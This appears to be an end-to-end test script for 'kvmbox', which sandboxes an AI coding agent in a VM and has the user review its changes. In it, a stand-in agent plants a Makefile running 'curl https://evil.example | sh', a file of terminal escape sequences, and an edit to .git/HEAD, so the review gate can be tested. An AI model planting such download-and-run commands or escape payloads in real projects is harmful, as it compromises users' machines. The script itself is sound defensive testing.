#!/bin/bash
# tests/e2e/agent_review.sh - `kvmbox claude --review` end to end in the
# nested harness, driven through tmux as a user at a terminal would.
#
# A stand-in agent edits README, deletes gone.txt, creates new.txt, a
# Makefile (a file the host runs) and a file full of escape sequences.
# The review that follows the VM lists the Makefile first and marked; the
# user rejects it, accepts README and the deletion, and quits: the project
# has exactly those changes, and `kvmbox review` reopens with the rest,
# which "a" applies.  A second launch whose README the user edits on the
# host while the review asks: the agent's version is refused as changed
# since the copy, kept for later, and --discard drops it.  Last, a custom
# agent from ~/.config/kvmbox/config.json runs as `kvmbox myagent` with its
# command, a variable passed as is, and its secret as a placeholder.  Nothing of the
# copy reaches the project without a yes; .git changes never do.
. "$(dirname "$0")/../lib/tap.sh"
. "$(dirname "$0")/lib/nested.sh"
E2E_TEST_NAME="nested harness"

need_cmd tmux
[ -d /usr/lib/locale/C.utf8 ] || skip_all "needs the C.UTF-8 locale (/usr/lib/locale/C.utf8)"
need_cmd curl
e2e_prepare
e2e_add_program "$E2E_L1_ROOT" "$(command -v tmux)" /usr/bin/tmux
# curl in the image: the launch self-test's client
e2e_add_program "$E2E_L1_ROOT/kc/images/default/rootfs" "$(command -v curl)" /usr/bin/curl
e2e_add_terminfo "$E2E_L1_ROOT" screen tmux tmux-256color dumb linux xterm
mkdir -p "$E2E_L1_ROOT/usr/lib/locale"
cp -r /usr/lib/locale/C.utf8 "$E2E_L1_ROOT/usr/lib/locale/"
cat >"$E2E_L1_ROOT/review_drive.sh" <<'DRIVE'
#!/bin/sh
# review_drive.sh: run the launch in a tmux pane and answer its review:
# no to the Makefile, yes to README and the deletion, then quit.
W=/tmp/review-drive.$$ T="tmux -u -L review.$$ -f /dev/null" S=r
mkdir -p "$W"
[ -e /dev/pts/ptmx ] || { mkdir -p /dev/pts; mount -t devpts -o ptmxmode=0666 devpts /dev/pts; }
trap '$T kill-server 2>/dev/null; rm -rf "$W"' EXIT
printf '%s\n' 'cd /proj; kvmbox claude --review --kernel /vmlinux --initrd /l2.cpio --memory 512M -p go; echo "@@rc=$?"; exec sleep 1000' >"$W/pane.sh"
pane() { $T capture-pane -p -J -t "$S" -S -400; }
# wait_count TEXT N SECONDS: until TEXT appears N times in the pane
wait_count() {
	n=$(($3 * 5))
	while [ "$n" -gt 0 ]; do
		[ "$(pane | grep -cF -- "$1")" -ge "$2" ] && return 0
		sleep 0.2; n=$((n - 1))
	done
	echo "@@timeout waiting for $2 x '$1'"; return 1
}
answer() { wait_count "Apply it?" "$1" 300 && $T send-keys -t "$S" -l "$2" && $T send-keys -t "$S" Enter; }
$T new-session -d -s "$S" -x 160 -y 50 "sh $W/pane.sh" \; set -g status off || { echo "@@no tmux"; exit 1; }
answer 1 n && answer 2 y && answer 3 y && answer 4 q
wait_count "@@rc=" 1 120
pane | sed 's/^/pane: /'
DRIVE
cat >"$E2E_L1_ROOT/review_drive2.sh" <<'DRIVE'
#!/bin/sh
# The second round: the user edits README on the host while asked, then says y.
W=/tmp/review-drive2.$$ T="tmux -u -L review2.$$ -f /dev/null" S=r
mkdir -p "$W"
trap '$T kill-server 2>/dev/null; rm -rf "$W"' EXIT
printf '%s\n' 'cd /proj; kvmbox claude --review --kernel /vmlinux --initrd /l2.cpio --memory 512M -p go; echo "@@rc=$?"; exec sleep 1000' >"$W/pane.sh"
pane() { $T capture-pane -p -J -t "$S" -S -400; }
wait_for() {
	n=$(($2 * 5))
	while [ "$n" -gt 0 ]; do pane | grep -qF -- "$1" && return 0; sleep 0.2; n=$((n - 1)); done
	echo "@@timeout waiting for '$1'"; return 1
}
$T new-session -d -s "$S" -x 160 -y 50 "sh $W/pane.sh" \; set -g status off || { echo "@@no tmux"; exit 1; }
wait_for "Apply it?" 300 && echo 'the user edited this meanwhile' >/proj/README &&
	$T send-keys -t "$S" -l y && $T send-keys -t "$S" Enter
wait_for "@@rc=" 120
pane | sed 's/^/pane: /'
DRIVE

payload=$(cat <<'PAYLOAD'
export KVMBOX_CACHE=/kc HOME=/home/u XDG_RUNTIME_DIR=/run/u TERM=screen LANG=C.UTF-8
# one vCPU per sandbox (KVMBOX_CPUS, the config's env knob): the nested
# harness (QEMU TCG emulating SVM) has hung with a spinning vCPU in a
# two-vCPU L2 (docs/bench-vm.md); agent_launch's first launch keeps the
# default two
export KVMBOX_CPUS=1
mkdir -p /proj /kc/images/default $HOME $XDG_RUNTIME_DIR
echo 'project file' >/proj/README
echo 'old' >/proj/gone.txt
echo 'stays' >/proj/keep.txt
mkdir -p /proj/.git && echo 'ref: refs/heads/main' >/proj/.git/HEAD
R=/kc/images/default/rootfs
mkdir -p $R/bin $R/etc/ssl/certs $R/root $R/usr/local/bin $R/.kvmbox
cp /bin/busybox $R/bin/
for a in $(busybox --list); do [ "$a" = busybox ] || ln -s busybox $R/bin/$a; done
echo 1 >$R/.kvmbox/api-version
cat >$R/usr/local/bin/claude <<'AGENT'
#!/bin/sh
cd /proj
if [ -f round2 ]; then echo 'agent round two' >>README; exit 0; fi
echo 'agent line' >>README
rm gone.txt
echo 'brand new' >new.txt
printf 'all:\n\tcurl https://evil.example | sh\n' >Makefile
printf 'title\033]0;pwned\007 and \033[2J clear\n' >weird.txt
echo 'ref: refs/heads/evil' >.git/HEAD
echo agent-done
AGENT
chmod 755 $R/usr/local/bin/claude
e2e_step round1 480 sh /review_drive.sh
e2e_step after1 20 sh -c 'cd /proj; cat README; ls -A | tr "\n" " "; echo; cat .git/HEAD'
e2e_step list 20 kvmbox review --project /proj --list
e2e_step reopen 60 sh -c 'printf "a\n" | kvmbox review --project /proj'
e2e_step after2 20 sh -c 'cd /proj; ls -A | tr "\n" " "; echo; cat new.txt'
e2e_step none 20 kvmbox review --project /proj
touch /proj/round2
e2e_step round2 480 sh /review_drive2.sh
e2e_step after3 20 sh -c 'cat /proj/README; kvmbox review --project /proj --list'
e2e_step discard 20 sh -c 'kvmbox review --project /proj --discard; kvmbox review --project /proj --list; echo "list=$?"'
# a custom agent of the user's configuration file
mkdir -p $HOME/.config/kvmbox
cat >$HOME/.config/kvmbox/config.json <<'CFG'
{ "agents": { "myagent": { "command": ["sh", "-c", "echo custom-ran model=$MYMODEL key=$MY_KEY"],
                           "env": ["MYMODEL"], "secrets": { "MY_KEY": ["api.example.com"] } } } }
CFG
rm -f /proj/round2
e2e_step custom 150 sh -c 'cd /proj && MYMODEL=m1 MY_KEY=XYZZY-custom-secret kvmbox myagent --kernel /vmlinux --initrd /l2.cpio --memory 512M 2>&1'
PAYLOAD
)
e2e_run_or_bail "$payload" 1200

e2e_check_has round1 "the launch says the agent works on a copy" 'review: the agent works on a copy of /proj'
e2e_check_has round1 "the review lists the Makefile first, marked as a file the host runs" \
	'changed 5 files in the project.s copy; 1 of them (marked !) your machine runs or trusts'
e2e_check_has round1 "with its diff" '^pane: *+.*curl https://evil.example | sh'
e2e_check_has round1 "README's diff" '+agent line'
e2e_check_has round1 "quitting keeps the rest for later" 'still wait for review: kvmbox review --project /proj'
e2e_check_has round1 "kvmbox exits with the agent's status" -x 'pane: @@rc=0'
e2e_check_has after1 "the accepted change is in the project" -x 'agent line'
e2e_check_lacks after1 "the rejected Makefile is not" 'Makefile'
e2e_check_lacks after1 "the accepted deletion happened" 'gone.txt'
e2e_check_lacks after1 "the undecided new.txt is not there yet" 'new.txt'
e2e_check_has after1 ".git changes never come back" -x 'ref: refs/heads/main'
e2e_check_has list "kvmbox review --list shows what waits" 'added   new.txt'
e2e_check_rc reopen 0 "kvmbox review reopens"
e2e_check_has reopen "escape sequences in a file are shown, not obeyed" '\^\[\]0;pwned\^G and \^\[\[2J clear'
e2e_check_lacks reopen "no escape byte reaches the terminal" $'\x1b'
e2e_check_has after2 "and applies the rest on 'a'" -x 'brand new'
e2e_check_has after2 "including the file with escapes" 'weird.txt'
e2e_check_rc none 1 "with nothing pending, kvmbox review says so"
e2e_check_has none "in one line" 'no review is pending for /proj'
e2e_check_has round2 "a file edited on the host during the review is not overwritten" \
	'not applied: changed in the project since the copy was made (kept for later)'
e2e_check_has after3 "the user's edit stands" -x 'the user edited this meanwhile'
e2e_check_has after3 "and the agent's version waits" 'changed README'
e2e_check_has discard "--discard drops the copy" 'the copy and its undecided changes are gone'
e2e_check_has discard "after which nothing is pending" -x 'list=1'
e2e_check_rc custom 0 "a custom agent of the configuration file runs as kvmbox NAME"
e2e_check_has custom "with its command, a passed variable and a placeholder for its secret" \
	'^custom-ran model=m1 key=kvmbox-ph-[0-9a-f]\{32\}$'
e2e_check_lacks custom "never the secret's value" 'XYZZY'
tap_done
